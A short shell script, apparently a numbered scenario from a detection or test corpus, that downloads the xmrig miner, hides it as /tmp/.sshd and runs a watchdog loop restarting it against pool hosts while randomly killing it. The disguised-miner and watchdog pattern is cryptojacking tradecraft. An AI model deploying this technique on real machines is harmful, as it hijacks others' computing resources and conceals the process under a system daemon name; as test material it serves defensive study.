# 3: a watchdog that looks after the miner and starts it again; the first pools are not there.
. /opt/corpus/scenarios/lib.sh
fetch xmrig /tmp/.sshd; chmod +x /tmp/.sshd
while :; do
  pgrep -f '^/tmp/.sshd' >/dev/null || (nohup /tmp/.sshd -o "$HOST:1" -u c -p x -o "$HOST:2" -u c -p x $POOL_ARGS --retries 1 --retry-pause 1 --randomx-mode=light &)
  sleep $((5 + RANDOM % 10))
  [ $((RANDOM % 5)) -gt 0 ] || pkill -9 -f '^/tmp/.sshd'
done
